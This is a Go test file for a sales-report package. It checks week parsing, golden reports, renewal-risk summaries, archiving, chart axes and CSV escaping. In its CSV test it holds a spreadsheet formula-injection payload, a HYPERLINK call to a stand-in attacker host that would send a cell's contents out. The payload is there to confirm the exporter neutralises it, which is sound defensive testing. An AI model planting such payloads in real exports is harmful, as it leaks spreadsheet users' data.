package report

import (
	"context"
	"database/sql"
	"flag"
	"math"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/go-analyze/charts"

	"github.com/precedent-dev/precedent/dashboard/format"
	"github.com/precedent-dev/precedent/etl/generate"
	wh "github.com/precedent-dev/precedent/etl/warehouse"
	"github.com/precedent-dev/precedent/internal/fixture"
	"github.com/precedent-dev/precedent/internal/fixture/company"
)

var update = flag.Bool("update", false, "rewrite the golden files")

func TestWeek(t *testing.T) {
	tests := []struct {
		in, start, end, prev string
	}{
		{"2026-W47", "2026-11-16", "2026-11-23", "2026-W46"},
		{"2026-W01", "2025-12-29", "2026-01-05", "2025-W52"},
		{"2020-W53", "2020-12-28", "2021-01-04", "2020-W52"},
	}
	for _, tt := range tests {
		w, err := ParseWeek(tt.in)
		if err != nil {
			t.Fatal(err)
		}
		if s, e := w.Start().Format(time.DateOnly), w.End().Format(time.DateOnly); s != tt.start || e != tt.end || w.Prev().String() != tt.prev {
			t.Errorf("%s: %s to %s, prev %s; want %s to %s, prev %s", tt.in, s, e, w.Prev(), tt.start, tt.end, tt.prev)
		}
	}
	for _, bad := range []string{"2026-47", "2026-W54", "2026-W00", "2021-W53", "W47", "2026-W7"} {
		if _, err := ParseWeek(bad); err == nil {
			t.Errorf("ParseWeek(%q) accepted", bad)
		}
	}
	// Thursday 26 November 2026: the last complete week is W47.
	if got := LastComplete(time.Date(2026, 11, 26, 9, 0, 0, 0, time.UTC)); got.String() != "2026-W47" {
		t.Errorf("LastComplete = %s, want 2026-W47", got)
	}
}

// testDB is a small generated company, built once and opened read-only.
var (
	testDB   *sql.DB
	setupErr error
)

func TestMain(m *testing.M) {
	flag.Parse()
	dir, _ := os.MkdirTemp("", "precedent-report")
	asOf := time.Date(2026, 11, 26, 0, 0, 0, 0, time.UTC)
	gen := generate.Options{Scale: 0.3, Seed: 5, AsOf: asOf, Format: "parquet", Effects: generate.DefaultEffects()}
	var data wh.Dir
	data, setupErr = company.Company(context.Background(), dir, gen, nil)
	if setupErr == nil {
		testDB, setupErr = fixture.Published(context.Background(), data)
	}
	code := m.Run()
	if testDB != nil {
		testDB.Close()
	}
	os.RemoveAll(dir)
	os.Exit(code)
}

func build(t *testing.T, week string) *Report {
	t.Helper()
	if setupErr != nil {
		t.Fatal(setupErr)
	}
	w, err := ParseWeek(week)
	if err != nil {
		t.Fatal(err)
	}
	fresh := Freshness{Generation: 1, AsOf: "2026-11-26", LastETLRun: 1, LastETLEnded: time.Date(2026, 11, 26, 2, 3, 0, 0, time.UTC)}
	r, err := Build(context.Background(), testDB, w, fresh)
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// TestGolden pins the text and HTML versions of a week's report: the same
// data and week give the same report.
func TestGolden(t *testing.T) {
	r := build(t, "2026-W47")
	images, err := r.images()
	if err != nil {
		t.Fatal(err)
	}
	render := map[string]func(*Report) (string, error){
		"2026-W47.txt": func(r *Report) (string, error) { return r.Text("https://precedent.example.com") },
		// The mail's HTML refers to its charts by content ID, so the
		// golden file holds no image bytes.
		"2026-W47.html": func(r *Report) (string, error) { return r.HTML(images, "https://precedent.example.com", true) },
	}
	for name, fn := range render {
		t.Run(name, func(t *testing.T) {
			got, err := fn(r)
			if err != nil {
				t.Fatal(err)
			}
			golden(t, name, got)
			if again, _ := fn(build(t, "2026-W47")); again != got {
				t.Errorf("building the same week twice gave different reports")
			}
		})
	}
	var total int64
	for _, c := range r.Counts {
		total += c.This + c.Prev
	}
	if total == 0 {
		t.Errorf("the week and the one before have no events at all; the fixture does not exercise the report")
	}
}

// golden compares got with testdata/name, or rewrites it with -update.
func golden(t *testing.T, name, got string) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		os.WriteFile(path, []byte(got), 0o644)
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run with -update)", err)
	}
	if got != string(want) {
		t.Errorf("%s differs (run with -update after checking):\n%s", path, got)
	}
}

// TestReadable checks what a CRO reads: money in dollars, renewals by ARR
// at risk, escalations with the ARR they touch, headers on the text
// tables, titles in words and links to the accounts' dashboard pages.
func TestReadable(t *testing.T) {
	r := build(t, "2026-W47")
	text, _ := r.Text("https://precedent.example.com")
	html, _ := r.HTML(nil, "https://precedent.example.com", true)
	if regexp.MustCompile(`\b\d{4,}\.\d{1,2}\b`).MatchString(text) {
		t.Errorf("the text carries raw amounts: %s", regexp.MustCompile(`\b\d{4,}\.\d{1,2}\b`).FindString(text))
	}
	if strings.Contains(text, " | ") {
		t.Errorf("the text still separates cells with pipes")
	}
	renewals := r.table("renewals")
	for i := 1; i < len(renewals.Rows); i++ {
		if format.Number(renewals.cell(i, "arr_at_risk")) > format.Number(renewals.cell(i-1, "arr_at_risk")) {
			t.Errorf("renewal %d has more ARR at risk than the one before it", i+1)
		}
	}
	if len(renewals.Rows) < 2 || len(r.table("escalations").Rows) == 0 {
		t.Fatalf("the fixture week has too few renewals or escalations to check")
	}
	id := renewals.cell(0, "account_id")
	if link := `href="https://precedent.example.com/accounts/` + id + `"`; !strings.Contains(html, link) {
		t.Errorf("the HTML does not link the first renewal's account: no %s", link)
	}
	if !strings.Contains(text, "https://precedent.example.com/accounts/"+id) {
		t.Errorf("the text does not link the first renewal's account")
	}
	if !strings.Contains(text, "Account ARR") || !strings.Contains(text, "  Ticket ") {
		t.Errorf("the escalations table has no header or no ARR")
	}
	if strings.Contains(html, "<td><code>renewal_discount_slope</code></td><td") || !strings.Contains(html, "Discount carried into renewals") {
		t.Errorf("the effects are titled by their identifiers")
	}
	for _, title := range []string{"Events this week against the week before <span class=\"note\">(number of events)", "ARR renewing within 90 days, by risk tier <span class=\"note\">(US dollars)"} {
		if !strings.Contains(mustHTML(t, r), title) {
			t.Errorf("the HTML has no chart title %q", title)
		}
	}
}

func mustHTML(t *testing.T, r *Report) string {
	t.Helper()
	images, err := r.images()
	if err != nil {
		t.Fatal(err)
	}
	html, err := r.HTML(images, "", true)
	if err != nil {
		t.Fatal(err)
	}
	return html
}

// TestSummary pins the summary's three sentences on the hand-made company
// of queries/testdata/renewals (see its README): in 2024-W25 a $1M renewal
// at risk 10 and a $20k one at risk 38 entered the 90-day window.
func TestSummary(t *testing.T) {
	data := wh.Dir(t.TempDir())
	if _, err := company.Load(context.Background(), filepath.Join("..", "..", "queries", "testdata", "renewals"), data, company.ModelsAsOf(time.Date(2024, 6, 30, 0, 0, 0, 0, time.UTC))); err != nil {
		t.Fatal(err)
	}
	db := fixture.OpenPublished(t, data)
	w, _ := ParseWeek("2024-W25")
	r, err := Build(context.Background(), db, w, Freshness{Generation: 1, AsOf: "2024-06-30"})
	if err != nil {
		t.Fatal(err)
	}
	want := []string{
		"ARR at high renewal risk in the next 90 days rose by $20,000 to $20,000; 2 renewals worth $1,020,000 entered the 90-day window, and 1 escalation touched $20,000 of ARR.",
		"The biggest new risk is Big Co: $100,000 at risk of $1,000,000 renewing on 2024-09-20 (risk 10, low), for 1 disputed invoice in the last year.",
		"What to do: resolve invoice I1 before the renewal call (Big Co, owner Bo Chen).",
	}
	if !slices.Equal(r.Summary, want) {
		t.Errorf("summary:\n%s\nwant\n%s", strings.Join(r.Summary, "\n"), strings.Join(want, "\n"))
	}
	text, _ := r.Text("")
	if !strings.Contains(text, "SUMMARY\n  "+want[0]) {
		t.Errorf("the text does not open with the summary:\n%s", text)
	}
	// A week with nothing new says so.
	w, _ = ParseWeek("2024-W23")
	quiet, err := Build(context.Background(), db, w, Freshness{Generation: 1, AsOf: "2024-06-30"})
	if err != nil {
		t.Fatal(err)
	}
	if len(quiet.Summary) != 3 || !strings.HasPrefix(quiet.Summary[1], "No new renewal risk") {
		t.Errorf("quiet week's summary: %q", quiet.Summary)
	}
}

func TestArchive(t *testing.T) {
	r := build(t, "2026-W47")
	reports := filepath.Join(t.TempDir(), "reports")
	w, _ := ParseWeek("2026-W47")
	a := Dir(reports, w)
	if err := a.Write(r, ""); err != nil {
		t.Fatal(err)
	}
	html, err := os.ReadFile(filepath.Join(string(a), "report.html"))
	if err != nil {
		t.Fatal(err)
	}
	page := string(html)
	if strings.Contains(page, "http://") || strings.Contains(page, "https://") || strings.Contains(page, "<script") || strings.Contains(page, `<link`) {
		t.Errorf("report.html is not self-contained")
	}
	if strings.Count(page, `src="data:image/png;base64,`) != 2 {
		t.Errorf("report.html does not carry its two charts inline")
	}
	for _, tab := range r.Tables {
		b, err := os.ReadFile(filepath.Join(string(a), tab.Name+".csv"))
		if err != nil {
			t.Fatal(err)
		}
		if lines := strings.Count(string(b), "\n"); lines < len(tab.Rows)+1 {
			t.Errorf("%s.csv has %d lines for %d rows", tab.Name, lines, len(tab.Rows))
		}
	}
	back, err := a.Read()
	if err != nil || back.Week != "2026-W47" || len(back.Tables) != len(r.Tables) {
		t.Errorf("read back: %v %+v", err, back)
	}
	weeks, err := List(reports)
	if err != nil || len(weeks) != 1 || weeks[0].String() != "2026-W47" {
		t.Errorf("List = %v %v", weeks, err)
	}
}

// TestRiskAtWeekEnd checks which scores a week's renewals and ARR at risk
// use: those as they stood at each week's end when the 26-week history
// before as_of (2026-11-26; its last week ends 2026-11-22) covers the week
// and the one before, else the current ones.
func TestRiskAtWeekEnd(t *testing.T) {
	for _, tt := range []struct {
		week string
		want bool
	}{
		{"2026-W47", true},  // the last complete week
		{"2026-W48", false}, // not over on as_of
		{"2026-W23", true},  // the oldest week with its week before in the history
		{"2026-W22", false}, // in the history, but not the week before it
		{"2025-W47", false},
	} {
		t.Run(tt.week, func(t *testing.T) {
			r := build(t, tt.week)
			if r.RiskAtWeekEnd != tt.want {
				t.Errorf("RiskAtWeekEnd = %v, want %v", r.RiskAtWeekEnd, tt.want)
			}
			if !tt.want {
				return
			}
			var this, prev float64
			err := testDB.QueryRow(`SELECT
  coalesce(sum(arr) FILTER (WHERE week_end = ?::DATE - 1), 0)::DOUBLE,
  coalesce(sum(arr) FILTER (WHERE week_end = ?::DATE - 1), 0)::DOUBLE
FROM renewal_risk_weekly WHERE risk_tier = 'high'`, r.To.Format(time.DateOnly), r.From.Format(time.DateOnly)).Scan(&this, &prev)
			if err != nil {
				t.Fatal(err)
			}
			if math.Abs(r.AtRisk-this) > 0.01 || math.Abs(r.AtRiskWas-prev) > 0.01 {
				t.Errorf("ARR at risk %.2f (week before %.2f), want %.2f (%.2f) from renewal_risk_weekly", r.AtRisk, r.AtRiskWas, this, prev)
			}
		})
	}
}

// TestTableCSV checks the report's CSVs (archived and mailed) neutralise
// cells a spreadsheet would run as formulas, and leave numbers alone.
func TestTableCSV(t *testing.T) {
	tab := Table{Columns: []string{"account", "=cmd"}, Rows: [][]string{
		{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, "-1250.50"},
		{"+1 555 0100", "@SUM(A1)"},
		{"\tindented", "\rreturn"},
		{"Acme, Inc.", "-12%"},
	}}
	want := `account,'=cmd
"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",-1250.50
'+1 555 0100,'@SUM(A1)
'	indented,"'` + "\r" + `return"
"Acme, Inc.",-12%
`
	if got := string(tab.CSV()); got != want {
		t.Errorf("CSV:\n%q\nwant\n%q", got, want)
	}
}

// TestFreshnessSaysWarnings checks that a report built after a run that
// rejected input does not call it successful.
func TestFreshnessSaysWarnings(t *testing.T) {
	r := build(t, "2026-W47")
	r.Fresh.LastETLStatus = "warning"
	text, err := r.Text("")
	if err != nil {
		t.Fatal(err)
	}
	page, err := r.HTML(nil, "", true)
	if err != nil {
		t.Fatal(err)
	}
	for name, got := range map[string]string{"text": text, "HTML": page} {
		if strings.Contains(got, "successful") || !strings.Contains(got, "with warnings: it rejected some input") {
			t.Errorf("the %s report does not say the last published run had warnings", name)
		}
	}
}

// TestChartAxesInUnits checks the mailed charts write their value axes in
// their unit ($40M, 12), not as raw numbers (40000000).
func TestChartAxesInUnits(t *testing.T) {
	for _, tt := range []struct {
		name   string
		unit   charts.ValueFormatter
		values map[float64]string
	}{
		{"money", moneyAxis, map[float64]string{4e7: "$40M", 2.5e5: "$250k", 0: "$0"}},
		{"count", countAxis, map[float64]string{12: "12", 1250: "1,250", 2.5: "2.5"}},
	} {
		opt := barOption([]string{"a", "b"}, [][]float64{{1, 2}, {3, 4}}, []string{"before", "after"}, false, tt.unit)
		for _, axis := range opt.ValueAxis {
			if axis.ValueFormatter == nil {
				t.Fatalf("%s: a value axis has no formatter", tt.name)
			}
			for v, want := range tt.values {
				if got := axis.ValueFormatter(v); got != want {
					t.Errorf("%s axis: %v reads %q, want %q", tt.name, v, got, want)
				}
			}
		}
		if _, err := bars(opt, 720, 320); err != nil {
			t.Errorf("%s: %v", tt.name, err)
		}
	}
}
